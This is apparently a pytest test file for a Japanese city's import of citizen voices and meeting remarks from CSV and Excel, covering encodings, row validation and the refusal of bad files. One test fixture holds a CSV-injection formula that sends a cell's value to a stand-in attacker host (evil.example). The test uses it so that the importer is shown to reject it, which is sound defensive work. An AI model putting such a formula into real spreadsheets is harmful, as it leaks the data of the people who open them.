"""Can staff import voices and meeting remarks from CSV (UTF-8, UTF-8 with BOM, CP932) and Excel files,
and does a file with any bad row import nothing, with a Japanese reason for each bad row?"""
from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import date, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from sqlalchemy import func, select

from models import ImportJob, Meeting, Voice, db, set_setting, utcnow
from routing.batch import route_new_voices
from voices.importers.service import (
    ImportRefused,
    enqueue,
    purge_stale_uploads,
    register_path,
    register_upload,
    run_check,
    run_import,
)

JST = ZoneInfo("Asia/Tokyo")
VOICE_HEADER = ["受付日", "経路", "種別", "内容", "氏名", "連絡先", "地区", "担当課"]
MEETING_HEADER = ["会合名", "開催日", "発言者区分", "地区", "発言内容"]
VOICE_ROWS = [
    ["2026-05-20", "電話", "苦情", "集積所のごみが回収されずに残っていて、カラスが散らかしています。", "", "", "小絹", ""],
    ["2026/5/21 10:30", "窓口", "要望", "市道の穴を直してください。車が通るたびに水がはねます。", "山田一郎", "0297-00-0000", "伊奈", ""],
    ["令和8年5月22日", "手紙", "提案", "図書館の開館時間を夜まで延ばしてほしいです。", "", "taro@example.jp", "", "生涯学習課"],
]
MEETING_ROWS = [
    ["第1回タウンミーティング", "2026-05-20", "市民", "伊奈", "駅までのバスの本数を増やしてほしいです。"],
    ["第1回タウンミーティング", "2026-05-20", "区長", "谷和原", "公民館の駐車場が足りません。"],
    ["子育て懇談会", "2026-06-02", "保護者", "", "児童クラブの定員を増やしてください。"],
]


def csv_bytes(header, rows, encoding="utf-8") -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue().encode(encoding)


def xlsx_bytes(header, rows, adjust: Callable[[Worksheet], None] | None = None) -> bytes:
    """A one-sheet workbook; ``adjust`` changes the filled sheet before it is saved (hides rows…)."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    if adjust:
        adjust(sheet)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_sheets(*sheets: tuple[str, list[list], str]) -> bytes:
    """A workbook of (title, rows, state) sheets, state being visible, hidden or veryHidden; the first
    visible one is active."""
    workbook = Workbook()
    workbook.remove(workbook.active)
    for title, rows, state in sheets:
        sheet = workbook.create_sheet(title)
        for row in rows:
            sheet.append(row)
        sheet.sheet_state = state
    workbook.active = next(i for i, s in enumerate(sheets) if s[2] == "visible")
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def write(tmp_path: Path, name: str, data: bytes) -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def detached(job: ImportJob) -> ImportJob:
    """The row as it is now, usable outside the app context."""
    db.session.refresh(job)
    db.session.expunge(job)
    return job


def check(app, path: Path, kind: str = "voices") -> ImportJob:
    with app.app_context():
        return detached(run_check(register_path(path, kind).id))


def import_checked(app, job_id: int, *, only_good_rows: bool = False) -> ImportJob:
    """What the page's 「取り込む」 button does, with the job run in-process (the embedded default)."""
    with app.app_context():
        enqueue(db.session.get(ImportJob, job_id), "import", only_good_rows=only_good_rows)
        return detached(db.session.get(ImportJob, job_id))


def voice_count(app) -> int:
    with app.app_context():
        return db.session.scalar(select(func.count(Voice.id)))


@pytest.fixture(autouse=True)
def _auto_assign(app, tmp_path):
    app.config["IMPORT_DIR"] = str(tmp_path / "uploads")  # not the repository's instance folder
    with app.app_context():
        set_setting("routing.auto_threshold", 0.0)
        db.session.commit()


@pytest.mark.parametrize("encoding, label", [("cp932", "cp932"), ("utf-8-sig", "utf-8-sig"), ("utf-8", "utf-8")])
def test_csv_in_each_encoding_is_detected_imported_and_routed(app, tmp_path, encoding, label):
    job = check(app, write(tmp_path, "voices.csv", csv_bytes(VOICE_HEADER, VOICE_ROWS, encoding)))
    assert (job.state, job.encoding, job.total_rows, job.good_rows, job.bad_rows) == ("checked", label, 3, 3, 0)
    assert voice_count(app) == 0  # the check stores nothing
    job = import_checked(app, job.id)
    assert (job.state, job.imported_rows, job.duplicate_rows) == ("done", 3, 0)
    with app.app_context():
        voices = db.session.scalars(select(Voice).order_by(Voice.id)).all()
        assert [v.channel for v in voices] == ["phone", "counter", "letter"]
        assert [v.received_at.astimezone(JST).replace(tzinfo=None) for v in voices] == [
            datetime(2026, 5, 20), datetime(2026, 5, 21, 10, 30), datetime(2026, 5, 22)]
        assert voices[1].submitter_phone == "0297-00-0000" and voices[2].submitter_email == "taro@example.jp"
        assert all(v.status == "assigned" for v in voices)
        assert voices[2].section.name == "生涯学習課" and voices[2].section_confirmed  # 担当課 chosen in the file
        for v in voices:
            assert [e.kind for e in v.events] == ["received", "classified", "assigned"]
            assert v.events[0].actor_label == "import"


def test_an_excel_file_of_meeting_remarks_creates_the_meetings_and_links_the_remarks(app, tmp_path):
    job = check(app, write(tmp_path, "remarks.xlsx", xlsx_bytes(MEETING_HEADER, MEETING_ROWS)), "meeting")
    assert (job.state, job.file_format, job.good_rows, job.bad_rows) == ("checked", "xlsx", 3, 0)
    assert import_checked(app, job.id).state == "done"
    with app.app_context():
        meetings = {m.name: m for m in db.session.scalars(select(Meeting))}
        assert set(meetings) == {"第1回タウンミーティング", "子育て懇談会"}
        assert meetings["子育て懇談会"].held_on == date(2026, 6, 2)
        voices = db.session.scalars(select(Voice).order_by(Voice.id)).all()
        assert [v.meeting.name for v in voices] == ["第1回タウンミーティング", "第1回タウンミーティング", "子育て懇談会"]
        assert [v.speaker_category for v in voices] == ["市民", "区長", "保護者"]
        assert all(v.channel == "meeting" and v.voice_type == "意見" and v.status == "assigned" for v in voices)


def test_excel_date_cells_are_read_as_dates(app, tmp_path):
    rows = [[date(2026, 5, 20), "電話", "苦情", "道路の街灯が切れています。", "", "", "", ""]]
    job = check(app, write(tmp_path, "dates.xlsx", xlsx_bytes(VOICE_HEADER, rows)))
    assert job.good_rows == 1
    import_checked(app, job.id)
    with app.app_context():
        assert db.session.scalar(select(Voice)).received_at.astimezone(JST).date() == date(2026, 5, 20)


def test_a_ledger_may_write_the_weekday_and_the_time_as_japanese_staff_do(app, tmp_path):
    """受付簿 copied from a calendar say 2026年5月20日（水） and 午後2時30分: are they read, and is a weekday that
    does not fit its date (a typo in one of them) refused rather than guessed?"""
    rows = [["2026年5月20日（水） 午後2時30分", "電話", "苦情", "道路の街灯が切れています。", "", "", "", ""],
            ["令和8年5月21日(木曜日)10時", "窓口", "要望", "公園のベンチを直してください。", "", "", "", ""],
            ["２０２６／５／２２（金）", "手紙", "提案", "図書館の開館時間を延ばしてほしい。", "", "", "", ""],
            ["2026年5月21日（水）", "電話", "苦情", "ごみが回収されていません。", "", "", "", ""]]
    job = check(app, write(tmp_path, "ledger.csv", csv_bytes(VOICE_HEADER, rows)))
    assert (job.good_rows, job.bad_rows) == (3, 1)
    assert [e["row"] for e in job.errors] == [5] and "2026年5月21日（水）" in str(job.errors)
    import_checked(app, job.id, only_good_rows=True)
    with app.app_context():
        voices = db.session.scalars(select(Voice).order_by(Voice.id)).all()
        assert [v.received_at.astimezone(JST).replace(tzinfo=None) for v in voices] == [
            datetime(2026, 5, 20, 14, 30), datetime(2026, 5, 21, 10, 0), datetime(2026, 5, 22)]


def _formula_workbook() -> bytes:
    data = xlsx_bytes(VOICE_HEADER, VOICE_ROWS)
    workbook = load_workbook(io.BytesIO(data))
    workbook.active["D3"] = '=HYPERLINK("http://example.com","ここをクリック")'
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _broken_bytes() -> bytes:
    data = csv_bytes(VOICE_HEADER, VOICE_ROWS, "cp932")
    lines = data.split(b"\r\n")
    lines[2] = lines[2].replace("市道".encode("cp932"), b"\x81\x7f\xff")  # not CP932 at all
    return b"\r\n".join(lines)


def _utf8_with_a_row_pasted_in_cp932() -> bytes:
    """A UTF-8 ledger with one row pasted from an old Shift_JIS file: the row is the problem, not the file."""
    lines = csv_bytes(VOICE_HEADER, VOICE_ROWS, "utf-8").split(b"\r\n")
    lines[2] = lines[2].decode("utf-8").encode("cp932")
    return b"\r\n".join(lines)


BAD_FILES = {
    "broken bytes": ("broken.csv", _broken_bytes, 3, "文字コード Shift_JIS（CP932） として読めないバイト"),
    "a row in another encoding": ("mixed.csv", _utf8_with_a_row_pasted_in_cp932, 3,
                                  "文字コード UTF-8 として読めないバイト"),
    "an empty required cell": ("empty.csv", lambda: csv_bytes(VOICE_HEADER, [VOICE_ROWS[0], [
        "2026-05-21", "窓口", "要望", "", "", "", "", ""], VOICE_ROWS[2]]), 3, "内容: 必須です"),
    "a bad date": ("date.csv", lambda: csv_bytes(VOICE_HEADER, [VOICE_ROWS[0], VOICE_ROWS[1], [
        "2026-02-30", *VOICE_ROWS[2][1:]]]), 4, "受付日: 「2026-02-30」は日付として読めません"),
    "a 10 MB cell": ("huge.csv", lambda: csv_bytes(VOICE_HEADER, [VOICE_ROWS[0], [
        "2026-05-21", "窓口", "要望", "あ" * (10 * 1024 * 1024 // 3), "", "", "", ""], VOICE_ROWS[2]]), 3,
        "セルが大きすぎる"),
    "a formula in an Excel cell": ("formula.xlsx", _formula_workbook, 3, "内容: 数式は取り込めません"),
    "a CSV-injection value": ("inject.csv", lambda: csv_bytes(VOICE_HEADER, [VOICE_ROWS[0], [
        "2026-05-21", "窓口", "要望", '=HYPERLINK("http://evil.example/?"&A1,"詳細")', "", "", "", ""]]), 3,
        "数式として実行される形"),
    "an unknown 課": ("section.csv", lambda: csv_bytes(VOICE_HEADER, [[*VOICE_ROWS[0][:7], "ごみ課"]]), 2,
        "担当課: 「ごみ課」は登録されている課ではありません"),
}


@pytest.mark.parametrize("case", list(BAD_FILES))
def test_a_file_with_a_bad_row_says_which_row_and_why_and_imports_nothing(app, tmp_path, case):
    name, make, row, reason = BAD_FILES[case]
    job = check(app, write(tmp_path, name, make()))
    assert job.state == "checked" and job.bad_rows == 1
    bad = {e["row"]: e["messages"] for e in job.errors}
    assert set(bad) == {row}
    assert any(reason in message for message in bad[row]), bad
    with pytest.raises(ImportRefused):
        import_checked(app, job.id)
    with app.app_context():  # even forced past the page, the import re-checks and refuses the whole file
        forced = db.session.get(ImportJob, job.id)
        forced.state = "queued"
        db.session.commit()
        assert run_import(job.id, route=route_new_voices).state == "refused"
    assert voice_count(app) == 0


def test_a_missing_column_refuses_the_file_with_the_column_named(app, tmp_path):
    header = [c for c in VOICE_HEADER if c != "種別"]
    rows = [[c for i, c in enumerate(r) if VOICE_HEADER[i] != "種別"] for r in VOICE_ROWS]
    job = check(app, write(tmp_path, "missing.csv", csv_bytes(header, rows)))
    assert job.state == "refused"
    assert "必要な列がありません：種別" in job.errors[0]["messages"][0]
    assert voice_count(app) == 0


def test_a_ledger_without_the_optional_columns_is_read(app, tmp_path):
    """A 受付簿 that never had 氏名, 連絡先, 地区 or 担当課 columns: its rows are checked and imported."""
    kept = [i for i, c in enumerate(VOICE_HEADER) if c in ("受付日", "経路", "種別", "内容")]
    header = [VOICE_HEADER[i] for i in kept]
    job = check(app, write(tmp_path, "ledger.csv", csv_bytes(header, [[r[i] for i in kept] for r in VOICE_ROWS])))
    assert (job.state, job.good_rows, job.bad_rows) == ("checked", 3, 0)
    assert import_checked(app, job.id).imported_rows == 3
    assert voice_count(app) == 3


def test_an_optional_column_under_another_heading_is_not_silently_left_out(app, tmp_path):
    """連絡先 headed 電話番号: would its numbers be lost without a word? The file is refused, naming both."""
    header = ["電話番号" if c == "連絡先" else c for c in VOICE_HEADER]
    job = check(app, write(tmp_path, "renamed.csv", csv_bytes(header, VOICE_ROWS)))
    assert job.state == "refused"
    message = job.errors[0]["messages"][0]
    assert "見出し「電話番号」の列は取り込めません" in message and "連絡先" in message
    assert voice_count(app) == 0


def test_the_good_rows_are_imported_only_when_the_user_says_so(app, tmp_path):
    name, make, _row, _reason = BAD_FILES["a bad date"]
    job = check(app, write(tmp_path, name, make()))
    job = import_checked(app, job.id, only_good_rows=True)
    assert (job.state, job.imported_rows) == ("done", 2)
    assert voice_count(app) == 2


def test_importing_the_same_rows_again_adds_nothing_and_says_how_many_were_skipped(app, tmp_path):
    path = write(tmp_path, "voices.csv", csv_bytes(VOICE_HEADER, VOICE_ROWS, "cp932"))
    import_checked(app, check(app, path).id)
    # The same rows again, plus one new row, saved from Excel as UTF-8 with BOM this time.
    again = write(tmp_path, "again.csv", csv_bytes(VOICE_HEADER, [*VOICE_ROWS, [
        "2026-05-23", "FAX", "問合せ", "粗大ごみの出し方を教えてください。", "", "", "", ""]], "utf-8-sig"))
    job = check(app, again)
    assert (job.good_rows, job.duplicate_rows) == (4, 3)
    job = import_checked(app, job.id)
    assert (job.imported_rows, job.duplicate_rows) == (1, 3)
    assert voice_count(app) == 4


def test_a_row_repeated_in_one_file_is_stored_once(app, tmp_path):
    job = check(app, write(tmp_path, "twice.csv", csv_bytes(VOICE_HEADER, [VOICE_ROWS[0], VOICE_ROWS[0]])))
    assert (job.good_rows, job.duplicate_rows) == (2, 1)
    assert import_checked(app, job.id).imported_rows == 1


def test_the_cli_reports_the_encoding_and_refuses_a_bad_file_with_the_row_messages(app, tmp_path):
    runner = app.test_cli_runner()
    good = write(tmp_path, "good.csv", csv_bytes(VOICE_HEADER, VOICE_ROWS, "cp932"))
    dry = runner.invoke(args=["import-voices", str(good), "--kind", "voices", "--dry-run"])
    assert dry.exit_code == 0, dry.output
    assert "文字コード: Shift_JIS（CP932）" in dry.output and "3 行を新しく取り込めます" in dry.output
    assert voice_count(app) == 0

    name, make, row, reason = BAD_FILES["a bad date"]
    bad = runner.invoke(args=["import-voices", str(write(tmp_path, name, make())), "--kind", "voices"])
    assert bad.exit_code == 1
    assert f"{row}行目: {reason}" in bad.output and "何も取り込みませんでした" in bad.output
    assert voice_count(app) == 0

    done = runner.invoke(args=["import-voices", str(good), "--kind", "voices"])
    assert done.exit_code == 0, done.output
    assert "3 件を登録し、登録済みの 0 件をスキップしました" in done.output
    again = runner.invoke(args=["import-voices", str(good), "--kind", "voices"])
    assert "0 件を登録し、登録済みの 3 件をスキップしました" in again.output
    assert voice_count(app) == 3


def test_the_templates_can_be_downloaded_and_their_example_rows_pass_the_check(app, tmp_path):
    from tests.support import login, make_user

    with app.app_context():
        make_user("koucho", "hearing", "秘書広報課")
    client = app.test_client()
    login(client, "koucho")
    for kind in ("meeting", "voices"):
        for fmt in ("csv", "xlsx"):
            response = client.get(f"/staff/imports/template/{kind}.{fmt}")
            assert response.status_code == 200
            if fmt == "csv":
                assert response.data.startswith(b"\xef\xbb\xbf")
            job = check(app, write(tmp_path, f"{kind}.{fmt}", response.data), kind)
            assert (job.state, job.good_rows, job.bad_rows) == ("checked", 1, 0), job.errors


def test_a_large_import_reads_ahead_in_a_second_process_with_the_same_result(app, tmp_path):
    """Outside a web request the model reads chunk N+1 in a forked process while chunk N is stored."""
    from voices.importers import service

    app.config.update(IMPORT_PARALLEL_MIN_ROWS=1000)
    rows = [[r[0], r[1], r[2], f"{r[3]}（{i}）", "", "", r[6], r[7]] for i, r in enumerate(VOICE_ROWS * 800)]
    job = check(app, write(tmp_path, "big.csv", csv_bytes(VOICE_HEADER, rows)))
    with app.app_context():
        pool = service._prediction_pool(job.total_rows)
        assert pool is not None
        pool.shutdown()
        db.session.get(ImportJob, job.id).state = "queued"
        db.session.commit()
        done = run_import(job.id, route=route_new_voices)
        assert (done.state, done.imported_rows) == ("done", 2400)
        voices = db.session.scalars(select(Voice).order_by(Voice.id)).all()
        assert all(v.status == "assigned" and v.latest_classification for v in voices)
        assert [v.section.name for v in voices[:3]] == ["生活環境課", voices[1].section.name, "生涯学習課"]
        assert voices[0].search_tokens.strip()


def test_uploads_left_unimported_for_a_week_are_deleted_and_cli_files_are_kept(app, tmp_path):
    """Uploaded files hold personal data: the daily purge deletes those never imported."""
    data = csv_bytes(VOICE_HEADER, VOICE_ROWS)
    cli_file = write(tmp_path, "kept.csv", data)
    with app.app_context():
        old = register_upload(io.BytesIO(data), "old.csv", "voices", None)
        fresh = register_upload(io.BytesIO(data), "fresh.csv", "voices", None)
        from_cli = register_path(cli_file, "voices")
        run_check(old.id)
        for job in (old, from_cli):
            job.created_at = utcnow() - timedelta(days=8)
        db.session.commit()
        old_path, fresh_path = Path(old.stored_path), Path(fresh.stored_path)

        assert purge_stale_uploads(utcnow()) == 1
        assert not old_path.exists() and fresh_path.exists() and cli_file.exists()
        assert db.session.get(ImportJob, old.id).state == "expired"
        assert db.session.get(ImportJob, fresh.id).state == "uploaded"
        assert purge_stale_uploads(utcnow()) == 0  # idempotent


@pytest.mark.parametrize("kind, header, rows", [("voices", VOICE_HEADER, VOICE_ROWS),
                                                ("meeting", MEETING_HEADER, MEETING_ROWS)])
def test_past_records_are_stored_as_finished_on_their_date_outside_queues_and_escalation(app, tmp_path, kind,
                                                                                       header, rows):
    """A 受付簿 of voices the city already handled: counted and classified, but nobody's work today."""
    from routing.overdue import escalate_overdue, overdue_query

    job = check(app, write(tmp_path, "past.csv", csv_bytes(header, rows)), kind)
    with app.app_context():
        enqueue(db.session.get(ImportJob, job.id), "import", as_finished=True)
        assert db.session.get(ImportJob, job.id).as_finished
        voices = db.session.scalars(select(Voice).order_by(Voice.id)).all()
        assert len(voices) == 3 and all(v.status == "closed" for v in voices)
        assert all(v.closed_at == v.received_at for v in voices)
        assert all(v.section is not None and v.latest_classification is not None for v in voices)
        assert [e.kind for e in voices[0].events] == ["received", "classified", "assigned", "closed"]
        assert voices[0].events[-1].data["past_record"] is True
        later = date(2026, 12, 1)
        assert db.session.scalars(overdue_query(later)).all() == [] and escalate_overdue(later) == 0


def test_the_import_page_and_the_command_offer_past_records(app, tmp_path):
    from tests.support import csrf_token_from, login, make_user

    with app.app_context():
        make_user("kouchou", "hearing", "秘書広報課")
    job = check(app, write(tmp_path, "past.csv", csv_bytes(VOICE_HEADER, VOICE_ROWS)))
    client = app.test_client()
    login(client, "kouchou")
    page = client.get(f"/staff/imports/{job.id}").get_data(as_text=True)
    assert 'name="as_finished"' in page
    client.post(f"/staff/imports/{job.id}/import", data={"csrf_token": csrf_token_from(page), "as_finished": "y"})
    assert "過去の記録：対応済みとして取り込み" in client.get(f"/staff/imports/{job.id}").get_data(as_text=True)
    with app.app_context():
        assert {v.status for v in db.session.scalars(select(Voice))} == {"closed"}
    other = write(tmp_path, "meeting.csv", csv_bytes(MEETING_HEADER, MEETING_ROWS))
    result = app.test_cli_runner().invoke(args=["import-voices", str(other), "--kind", "meeting", "--as-finished"])
    assert result.exit_code == 0, result.output
    with app.app_context():
        statuses = [v.status for v in db.session.scalars(select(Voice))]
        assert statuses == ["closed"] * 6


def test_the_sections_of_a_past_ledger_become_labels_for_the_next_retraining(app, tmp_path):
    """A 受付簿 with its 担当課 column, imported as past records, is what the classifier lacks most:
    real voices labelled by the city."""
    from routing.model_registry import staff_labelled_examples

    job = check(app, write(tmp_path, "ledger.csv", csv_bytes(VOICE_HEADER, VOICE_ROWS)))
    with app.app_context():
        enqueue(db.session.get(ImportJob, job.id), "import", as_finished=True)
        labels = staff_labelled_examples()
    # Only the row whose 担当課 the file names is a label; the model's guesses for the others are not.
    assert [(e["section"], e["text"][:6]) for e in labels] == [("生涯学習課", "図書館の開館")]
